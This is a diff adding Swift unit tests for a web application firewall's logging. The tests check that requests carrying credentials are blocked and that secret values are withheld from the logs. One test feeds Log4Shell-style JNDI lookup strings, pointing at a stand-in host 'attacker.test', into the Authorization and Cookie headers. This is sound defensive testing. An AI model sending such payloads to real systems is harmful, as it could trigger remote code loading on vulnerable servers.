@@ -41,6 +41,33 @@ struct WafLoggingTests {
         #expect(lines.last?.metadata["waf.score"] == "\(verdict.score)")
     }
 
+    @Test func aMatchInACredentialKeepsItsRuleAndTargetButNeverItsValue() throws {
+        let recorder = Recorder()
+        let logger = Logger(label: "test") { _ in RecordingHandler(recorder: recorder) }
+        let secret = "tokenvalue-5f2a9c"
+        let verdict = try WafCorpus.shippedWAF().inspect(InspectedRequest(
+            method: "GET", rawPath: "/api/v1/tickets", rawQuery: nil,
+            headers: [("Authorization", "Bearer ${jndi:ldap://attacker.test/\(secret)}"), ("Cookie", "sid=${jndi:ldap://attacker.test/\(secret)}")]
+        ))
+        #expect(verdict.blocked)
+        let credentialMatches = verdict.matches.filter { $0.target == "header:authorization" || $0.target.hasPrefix("cookie:") }
+        #expect(credentialMatches.count >= 2)
+        #expect(credentialMatches.allSatisfy { $0.fragment == WAFMatch.withheld })
+        verdict.log(to: logger, requestID: "req-2", tenant: "acme", clientIP: nil)
+        let logged = recorder.lines.withLock { $0 }.map { "\($0.message) \($0.metadata)" }.joined(separator: "\n")
+        #expect(logged.contains("header:authorization"))
+        #expect(!logged.contains(secret))
+    }
+
+    @Test func credentialTargetsAreRecognised() {
+        for target in ["header:authorization", "header:cookie", "header:x-api-key", "cookie:sid", "json:auth.refresh_token", "form:client_secret", "query:password"] {
+            #expect(WAFMatch.holdsCredential(target), "\(target)")
+        }
+        for target in ["path", "query:q", "json:message.body", "header:user-agent", "header-name", "method"] {
+            #expect(!WAFMatch.holdsCredential(target), "\(target)")
+        }
+    }
+
     @Test func cleanRequestsLogNothing() throws {
         let recorder = Recorder()
         let logger = Logger(label: "test") { _ in RecordingHandler(recorder: recorder) }
